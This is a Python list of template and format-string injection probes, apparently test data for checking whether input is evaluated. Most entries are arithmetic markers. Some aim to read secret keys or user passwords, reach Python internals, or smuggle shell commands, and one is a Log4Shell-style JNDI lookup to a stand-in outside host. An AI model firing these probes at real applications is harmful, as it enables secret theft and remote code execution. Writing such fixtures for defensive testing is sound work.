"""What some template language or formatter would solve; all of it is only words here."""

TEMPLATES = [
    *(
        "{{ 9801 * 1000 + 547 }}",
        "{{9801*1000+547}}",
        "{{9801|add:9800547}}",
        "{{ 9801|add:'547' }}",
        "{% debug %}",
    ),
    *(
        "{% load i18n %}{% now 'Y' %}98",
        "{# x #}",
        '{% widthratio 9801 1 "7" %}',
        "{% with x=98015 %}{{ x }}47{% endwith %}",
    ),
    *("${9801*1000+547}", "<%= 9801*1000+547 %>", "#{9801*1000+547}", "*{9801*1000+547}", "@{9801*1000+547}"),
    *(
        "@(9801*1000+547)",
        "{9801*1000+547}",
        "[[9801*1000+547]]",
        "{{=9801*1000+547}}",
        "$(expr 9801 \\* 1000 + 547)",
    ),
    *("{php}echo 9801*1000+547;{/php}", "<?= 9801*1000+547 ?>", "${{9801*1000+547}}", "~[9801*1000+547]~"),
    *("{{settings.SECRET_KEY}}", "{{ request.user.password }}", "{{ ''.__class__.__mro__ }}", "{{ self }}"),
    *(
        "{% include 'admin/base.html' %}",
        "{% csrf_token %}",
        "{{ forloop }}",
        "{{ block.super }}",
        "{% verbatim %}",
    ),
    *(
        "%(site_name)s",
        "%(9801)s %s %d",
        "{0.__class__}",
        "{0.__init__.__globals__}",
        "{title!r:>9801}",
        "%n%x%p",
    ),
    *(
        "=9801*1000+547",
        "@SUM(9801000,547)",
        "${jndi:ldap://elsewhere.example/x}",
        "$((9801*1000+547))",
        "`expr 9801 + 1`",
    ),
]
SOLVED = ("9801547", "10348", "9811348", "68607")  # what these come to where somebody evaluates them
